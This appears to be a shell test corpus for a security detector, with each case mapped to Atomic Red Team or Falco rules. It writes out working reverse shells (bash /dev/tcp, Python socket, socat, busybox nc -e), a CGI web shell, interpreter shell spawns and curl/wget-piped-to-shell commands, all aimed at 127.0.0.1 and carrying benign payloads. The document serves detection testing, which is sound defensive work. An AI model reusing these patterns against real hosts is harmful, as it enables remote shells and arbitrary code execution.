# SPDX-License-Identifier: Apache-2.0
# Execution: shells out of interpreters and awk, one-liners, reverse shells
# to 127.0.0.1, web shells, pipes into a shell, network tools.

#@ id=ex_awk_shell src=atomic:ee72b37d-b8f5-46a5-a9e7-0ff50035ffd5 expect=awk_shell_spawn
t_ex_awk_shell() { awk 'BEGIN { system("/bin/sh -c true") }'; }

#@ id=ex_gawk_shell src=atomic:ee72b37d-b8f5-46a5-a9e7-0ff50035ffd5 expect=awk_shell_spawn
t_ex_gawk_shell() { gawk 'BEGIN { system("exec /bin/bash </dev/null") }'; }

#@ id=ex_mawk_shell_renamed src=atomic:ee72b37d-b8f5-46a5-a9e7-0ff50035ffd5 expect=awk_shell_spawn
t_ex_mawk_shell_renamed() {
  local a
  a=$(readlink -f "$(command -v awk)")
  a=$(drop "$a" tools/awk)
  "$a" 'BEGIN { system("sh") }' </dev/null
}

#@ id=ex_python_pty src=atomic:161d694c-b543-4434-85c3-c3a433e33792 expect=interpreter_shell_spawn
t_ex_python_pty() { "$PY" -c 'import pty; pty.spawn(["/bin/sh", "-c", "exit 0"])' </dev/null; }

#@ id=ex_python_os_system src=atomic:3a95cdb2-c6ea-4761-b24e-02b71889b8bb expect=interpreter_shell_spawn,code_on_the_fly
t_ex_python_os_system() { "$PY" -c 'import os; os.system("id >/dev/null")'; }

#@ id=ex_perl_exec_shell src=atomic:bcd4c2bc-490b-4f91-bd31-3709fe75bbdf expect=interpreter_shell_spawn
t_ex_perl_exec_shell() { printf 'system("/bin/sh", "-c", "true");\n' >"$W/s.pl" && perl "$W/s.pl"; }

#@ id=ex_perl_e src=atomic:6604d964-b9f6-4d4b-8ce8-499829a14d0a expect=code_on_the_fly
t_ex_perl_e() { perl -e 'print "corpus\n"' >/dev/null; }

#@ id=ex_perl_le src=atomic:6604d964-b9f6-4d4b-8ce8-499829a14d0a expect=code_on_the_fly
t_ex_perl_le() { perl -Mstrict -le 'print 1' >/dev/null; }

#@ id=ex_python_c src=atomic:0b44d79b-570a-4b27-a31f-3bf2156e5eaa expect=code_on_the_fly
t_ex_python_c() { "$PY" -u -c 'print("corpus")' >/dev/null; }

#@ id=ex_python_stdin_shell src=atomic:6c4d1dcb-33c7-4c36-a8df-c6cfd0408be8 expect=interpreter_shell_spawn
t_ex_python_stdin_shell() {
  "$PY" - <<'PY'
import subprocess
subprocess.call(["/bin/bash", "-c", "exit 0"])
PY
}

#@ id=ex_reverse_shell_bash src=atomic:d0c88567-803d-4dca-99b4-7ce65e7b257c expect=shell_network_connection
setup_ex_reverse_shell_bash() { listen_local >"$W/port"; }
t_ex_reverse_shell_bash() { bash -c "exec 3<>/dev/tcp/127.0.0.1/$(cat "$W/port"); echo id >&3" 2>/dev/null || true; }

#@ id=ex_reverse_shell_python src=atomic:161d694c-b543-4434-85c3-c3a433e33792 expect=interpreter_shell_spawn
setup_ex_reverse_shell_python() { listen_local >"$W/port"; }
t_ex_reverse_shell_python() {
  "$PY" - "$(cat "$W/port")" <<'PY'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=subprocess.DEVNULL)
PY
}

#@ id=ex_socat_exec_shell src=falco:NetcatRemoteCodeExecutionInContainer expect=net_suspicious_tool_shell
setup_ex_socat_exec_shell() { listen_local >"$W/port"; }
t_ex_socat_exec_shell() { timeout 2 socat "tcp:127.0.0.1:$(cat "$W/port")" exec:/bin/sh 2>/dev/null || true; }

#@ id=ex_nc_listen src=falco:LaunchSuspiciousNetworkToolOnHost expect=net_suspicious_tool_exec
t_ex_nc_listen() { timeout 1 nc -l 127.0.0.1 0 2>/dev/null || true; }

#@ id=ex_busybox_nc_shell src=falco:NetcatRemoteCodeExecutionInContainer expect=net_suspicious_tool_shell,busybox_applet_shell
setup_ex_busybox_nc_shell() { listen_local >"$W/port"; }
t_ex_busybox_nc_shell() { timeout 2 busybox nc 127.0.0.1 "$(cat "$W/port")" -e /bin/sh 2>/dev/null || true; }

#@ id=ex_busybox_sh src=atomic:ab4d04af-68dc-4fee-9c16-6545265b3276 expect=busybox_applet_shell
t_ex_busybox_sh() { busybox sh -c 'true'; }

#@ id=ex_webshell src=falco:RunShellUntrusted expect=webserver_shell_exec
setup_ex_webshell() {
  # the CGI child runs as nobody: the document root must be readable by it
  local d
  d=$(mktemp -d /tmp/mizan-corpus-www.XXXXXX)
  chmod 755 "$d"
  ln -s "$d" "$W/www"
  mkdir -p "$W/www/cgi-bin"
  printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\nid\n' >"$W/www/cgi-bin/x.sh"
  chmod +x "$W/www/cgi-bin/x.sh"
  # a web server named like one: python's CGI server under a copy named httpd
  cp "$(readlink -f "$PY")" "$W/httpd"
}
t_ex_webshell() {
  cd "$(readlink "$W/www")"
  "$W/httpd" - <<'PY' 2>/dev/null
import http.server, threading, urllib.request, warnings
warnings.simplefilter("ignore")
srv = http.server.HTTPServer(("127.0.0.1", 0), http.server.CGIHTTPRequestHandler)
threading.Thread(target=srv.handle_request, daemon=True).start()
urllib.request.urlopen("http://127.0.0.1:%d/cgi-bin/x.sh" % srv.server_port, timeout=5).read()
PY
}
teardown_ex_webshell() { rm -rf "$(readlink "$W/www")"; }

#@ id=ex_curl_pipe_sh src=atomic:fca246a8-a585-4f28-a2df-6495973976a1 expect=download_piped_to_shell
setup_ex_curl_pipe_sh() {
  mkdir -p "$W/srv" && printf 'echo corpus\n' >"$W/srv/i.sh"
  (cd "$W/srv" && exec "$PY" -m http.server --bind 127.0.0.1 0 >"$W/srv.log" 2>&1) &
  _MZ_KILL+=($!)
  local i
  for i in $(seq 1 50); do grep -q 'port' "$W/srv.log" 2>/dev/null && break; sleep 0.1; done
  sed -n 's/.*port \([0-9]*\).*/\1/p' "$W/srv.log" | head -1 >"$W/port"
}
t_ex_curl_pipe_sh() { sh -c "curl -fsS http://127.0.0.1:$(cat "$W/port")/i.sh | sh"; }

#@ id=ex_wget_pipe_bash src=atomic:bdc373c5-e9cf-4563-8a7b-a9ba720a90f3 expect=download_piped_to_shell
setup_ex_wget_pipe_bash() { setup_ex_curl_pipe_sh; }
t_ex_wget_pipe_bash() { bash -c "wget -qO- http://127.0.0.1:$(cat "$W/port")/i.sh | bash"; }
